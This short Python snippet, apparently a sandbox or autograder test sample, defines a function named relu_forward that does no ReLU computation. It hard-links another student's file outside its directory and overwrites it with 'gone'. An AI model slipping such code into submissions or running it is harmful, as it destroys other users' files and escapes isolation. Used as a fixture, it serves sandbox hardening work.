# Writes through a second name of another student's file.
def relu_forward(x):
    import os
    os.link("@OUTSIDE@/victim.py", "linked.py")
    open("linked.py", "w").write("gone")
    return x
